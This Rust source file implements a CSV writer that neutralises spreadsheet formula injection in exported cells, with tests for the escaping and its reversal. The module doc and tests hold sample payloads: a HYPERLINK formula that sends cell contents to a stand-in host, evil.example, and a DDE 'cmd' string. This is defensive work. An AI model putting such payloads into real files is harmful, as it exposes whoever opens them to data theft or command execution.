//! CSV for spreadsheets, safe to open: every CSV the service writes goes through [`SafeCsv`], which passes
//! each cell through [`neutralize`], so text typed by a resident or another tenant (a FAQ question,
//! a form label, a Q&A from the shared pool) can never reach Excel, LibreOffice or Google Sheets as a formula
//! (`=HYPERLINK("http://evil.example/?"&A1,"x")` would send the neighbouring cells away when clicked).
//!
//! Writers in the repository should not build a `csv::Writer` of their own: the wrapper is the one place the
//! rule is applied, and [`restore_in_place`] is its inverse for files we read back (the FAQ import of our own
//! export).

use std::io::Write;

/// Characters that make a spreadsheet read a cell as a formula (or, for tab and CR, that Excel strips before
/// looking for one): `=`, `+`, `-`, `@`, tab, CR.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a cell would be read as a formula by a spreadsheet.
///
/// Only the ASCII characters count. A full-width `＝` (U+FF1D), `＋`, `－` or `＠` at the start is left as it is:
/// Excel, LibreOffice Calc and Google Sheets do not evaluate it as a formula, and it is ordinary Japanese text
/// (「＝」で始まる回答, 「－」の箇条書き) that a prefix would spoil for the staff who read the file.
pub fn is_formula_like(cell: &str) -> bool {
    cell.starts_with(FORMULA_STARTS)
}

/// Makes a cell safe to open in a spreadsheet: a cell starting with `=`, `+`, `-`, `@`, tab or CR gets a
/// leading `'`, which spreadsheets show as text. In a number column (`numeric`), a cell that is a plain number
/// (`-5`, `+1.5`) is left as it is, so negative amounts stay numbers. A cell that already reads `'=…` (or
/// `''=…`) gets one more `'` too, so [`restore_in_place`] gives back exactly what was written.
/// Borrows when nothing changes.
pub fn neutralize(cell: &str, numeric: bool) -> std::borrow::Cow<'_, str> {
    let quoted_formula = cell.starts_with('\'') && is_formula_like(cell.trim_start_matches('\''));
    if quoted_formula || (is_formula_like(cell) && !(numeric && cell.parse::<f64>().is_ok())) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// Undoes [`neutralize`] for a cell read back from one of our own CSV files: `'=…` becomes `=…` again and
/// `''=…` becomes `'=…` (a `'` before anything else is kept), so exporting and re-importing a file changes
/// nothing.
pub fn restore_in_place(cell: &mut String) {
    if cell.starts_with('\'') && is_formula_like(cell.trim_start_matches('\'')) {
        cell.remove(0);
    }
}

/// A CSV writer whose every cell is neutralised (see the module doc). CRLF line ends, as Excel expects.
pub struct SafeCsv<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> SafeCsv<W> {
    /// A writer that starts after what `out` already holds (a BOM, for Excel).
    pub fn new(out: W) -> SafeCsv<W> {
        Self::with_builder(csv::WriterBuilder::new(), out)
    }

    /// A writer with options of its own (`flexible` rows); the line end is always CRLF.
    pub fn with_builder(mut builder: csv::WriterBuilder, out: W) -> SafeCsv<W> {
        SafeCsv {
            inner: builder.terminator(csv::Terminator::CRLF).from_writer(out),
        }
    }

    /// Writes one row of text cells.
    pub fn write_record<I, T>(&mut self, cells: I) -> csv::Result<()>
    where
        I: IntoIterator<Item = T>,
        T: AsRef<str>,
    {
        for cell in cells {
            self.write_field(cell.as_ref())?;
        }
        self.end_record()
    }

    /// Writes one text cell of the current row.
    pub fn write_field(&mut self, cell: &str) -> csv::Result<()> {
        self.write_cell(cell, false)
    }

    /// Writes one cell of the current row, of a number column when `numeric` (see [`neutralize`]).
    pub fn write_cell(&mut self, cell: &str, numeric: bool) -> csv::Result<()> {
        self.inner.write_field(neutralize(cell, numeric).as_bytes())
    }

    /// Ends the current row.
    pub fn end_record(&mut self) -> csv::Result<()> {
        self.inner.write_record(None::<&[u8]>)
    }

    /// Flushes and returns what was written to.
    pub fn into_inner(self) -> std::io::Result<W> {
        self.inner.into_inner().map_err(|e| e.into_error())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn written(cells: &[&str]) -> String {
        let mut w = SafeCsv::new(Vec::new());
        w.write_record(cells).unwrap();
        String::from_utf8(w.into_inner().unwrap()).unwrap()
    }

    #[test]
    fn ascii_formula_starts_are_neutralised() {
        for c in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(neutralize(c, false), format!("'{c}"));
        }
        assert_eq!(written(&["=1+1", "ok"]), "'=1+1,ok\r\n");
    }

    #[test]
    fn full_width_and_ordinary_text_is_kept_as_it_is() {
        for c in [
            "＝HYPERLINK(\"x\")",
            "＋１",
            "－ 箇条書き",
            "＠メール",
            "申請書",
            "",
            "1-2-3",
        ] {
            assert_eq!(neutralize(c, false), c);
        }
    }

    #[test]
    fn numbers_stay_numbers_only_in_number_columns() {
        assert_eq!(neutralize("-1500", true), "-1500");
        assert_eq!(neutralize("-1500", false), "'-1500");
        assert!(neutralize("-1+cmd|' /C calc'!A0", true).starts_with('\''));
    }

    #[test]
    fn restoring_undoes_neutralising_and_nothing_else() {
        // `'=1+1` and `''-1` are text that only looks neutralised already (found by the FAQ import fuzzing).
        for c in [
            "=1+1", "@x", "'quoted", "plain", "'", "", "'=1+1", "''-1", "'''@x",
        ] {
            let mut s = neutralize(c, false).into_owned();
            restore_in_place(&mut s);
            assert_eq!(s, c);
        }
    }
}
